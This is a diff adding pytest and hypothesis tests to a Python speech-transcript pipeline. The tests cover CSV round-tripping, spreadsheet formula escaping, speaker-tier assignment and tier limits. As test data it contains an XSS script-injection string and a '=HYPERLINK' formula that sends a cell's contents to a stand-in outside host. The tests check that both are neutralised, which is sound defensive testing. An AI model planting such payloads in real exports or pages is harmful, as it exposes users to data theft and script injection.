@@ -18,12 +18,14 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from praatio import textgrid
 
+from lpgnet.pipeline.corpora.text import named_rows
 from lpgnet.pipeline.errors import PipelineError, UsageError
 from lpgnet.pipeline.recordings.transcripts import read_transcript
 from lpgnet.pipeline.reports.config import PageConfig
 from lpgnet.pipeline.reports.page import clock, to_html
 from lpgnet.pipeline.reports.rows import Timeline, TimelineRow, tiers
 from lpgnet.pipeline.reports.timeline import FORMATS, check_formats, output_paths, write_timeline
+from tests.growth import grows_too_fast
 
 HOSTILE = (
     "</script><script>alert(1)</script>",
@@ -84,6 +86,34 @@ def test_tables(timeline: Timeline, tmp_path: Path) -> None:
         rows = list(csv.DictReader(file))
     assert [float(each["p_happy"]) for each in rows] == [value["probabilities"]["happy"] for value in objects]
     assert list(rows[0])[-2:] == ["w_text", "w_audio"]
+
+
+WORDS = st.text("'=+-@\t\r\n1,;\"a", min_size=1, max_size=6) | st.text(
+    st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1
+)
+
+
+@given(texts=st.lists(WORDS, min_size=1, max_size=4), speaker=WORDS)
+@settings(max_examples=100, deadline=None)
+def test_words_in_csv_are_read_as_they_were(
+    texts: list[str], speaker: str, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    rows = tuple(row(index, text, speaker) for index, text in enumerate(texts))
+    timeline = Timeline("a", rows, None, 60.0)
+    paths = write(timeline, tmp_path_factory.mktemp("out"), "csv")
+    found = [each for _, each in named_rows(paths["csv"].read_bytes().decode(), paths["csv"])]
+    assert [(each["text"], each["speaker"]) for each in found] == [(text, speaker) for text in texts]
+
+
+def test_formulas_in_csv(timeline: Timeline, tmp_path: Path) -> None:
+    evil = replace(timeline, rows=(row(0, '=HYPERLINK("http://a.b/"&A1,"c")', "@Ann"), row(1, "-1.5", "Bob")))
+    path = write(evil, tmp_path, "csv")["csv"]
+    assert "\nturn 1,0.000,1.500,'@Ann,\"'=HYPERLINK" in path.read_text(encoding="utf-8")
+    assert "\nturn 2,2.000,3.500,Bob,-1.5,happy" in path.read_text(encoding="utf-8")
+    assert [turn.text for turn in read_transcript(path).turns] == [each.text for each in evil.rows]
+    assert [turn.speaker for turn in read_transcript(path).turns] == ["@Ann", "Bob"]
+    write_timeline(evil, tmp_path, ["csv"], PageConfig(), csv_raw=True)
+    assert '\nturn 1,0.000,1.500,@Ann,"=HYPERLINK' in path.read_text(encoding="utf-8")
 
 
 @pytest.mark.parametrize("form", ["srt", "vtt"])
@@ -233,6 +263,37 @@ def test_tiers_do_not_overlap() -> None:
     found = tiers(rows)
     assert sum(map(len, found.values())) == 8
     assert all(a.end <= b.start for tier in found.values() for a, b in itertools.pairwise(tier))
+
+
+@given(st.lists(st.tuples(st.integers(0, 20), st.integers(1, 9), st.sampled_from("AB")), min_size=1, max_size=30))
+def test_a_turn_is_in_the_first_tier_that_has_room(spans: list[tuple[int, int, str]]) -> None:
+    rows = [replace(row(0, "x", speaker), start=start, end=start + length) for start, length, speaker in spans]
+    expected: dict[str, list[TimelineRow]] = {}
+    for each in sorted(rows, key=lambda each: each.start):
+        names = itertools.chain([each.speaker], (f"{each.speaker} {number}" for number in itertools.count(2)))
+        name = next(name for name in names if name not in expected or expected[name][-1].end <= each.start)
+        expected.setdefault(name, []).append(each)
+    assert tiers(rows) == expected
+
+
+def test_tiers_of_all_speakers_have_names_of_their_own() -> None:
+    rows = [row(0, "x", start=0.0), row(1, "x", start=1.0), row(2, "x", "Ann 2", start=9.0)]
+    assert list(tiers(rows)) == ["Ann", "Ann 2", "Ann 2 (2)"]
+
+
+def test_tiers_take_no_more_time_than_they_have_turns() -> None:
+    def sort(text: str) -> None:
+        tiers([row(index, "x", start=index * 1e-4) for index in range(len(text))])
+
+    assert not grows_too_fast(sort, "x".__mul__)
+
+
+@pytest.mark.parametrize("form", ["textgrid", "eaf"])
+def test_tiers_are_bounded(form: str, tmp_path: Path) -> None:
+    rows = tuple(row(0, "x", f"Ann{' ' * index}") for index in range(1001))
+    with pytest.raises(PipelineError, match=r"^a: needs 1001 tiers.*; at most 1000 are written"):
+        write(Timeline("a", rows, None, 60.0), tmp_path, form)
+    write(Timeline("a", rows[1:], None, 60.0), tmp_path, form)
 
 
 def test_clock() -> None:
